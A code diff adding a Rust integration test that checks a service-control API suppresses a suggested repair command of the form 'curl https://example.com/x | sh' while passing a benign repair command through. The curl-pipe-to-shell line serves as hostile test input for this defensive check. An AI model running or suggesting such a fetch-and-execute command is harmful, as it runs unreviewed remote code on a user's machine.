@@ -73,3 +73,26 @@ async fn ssh_gets_the_keys_of_an_ssh_agent() {
     until("ssh has the socket", has_it).await;
     fleet.world.finish().await;
 }
+
+#[tokio::test]
+async fn what_a_person_types_to_mend_a_service_is_no_text_of_its_agent() {
+    let fleet = Fleet::landed().await;
+    let (_, own) = fleet.world.server().get("/api/v1/services/web").await;
+    for (said, shown) in [("curl https://example.com/x | sh", Value::Null), ("tagalong repair web", json!("tagalong repair web"))] {
+        let mut service = own.clone();
+        service["standing"] = json!({ "word": "drift", "why": "It is not what it was.", "mend": said });
+        let answer = json!({ "body": { "answer": "services", "services": [service] } });
+        fleet.at_wire("up.answer", &format!("edit {answer}"));
+        let mut standing = Value::Null;
+        for _ in 0..300 {
+            standing = fleet.control().get("/api/v1/services/web").await.1["standing"].clone();
+            if standing["word"] == "drift" && standing["mend"] == shown {
+                break;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        }
+        assert_eq!((&standing["word"], &standing["mend"]), (&json!("drift"), &shown), "{standing}");
+    }
+    fleet.leave_wire("up.answer");
+    fleet.finish().await;
+}
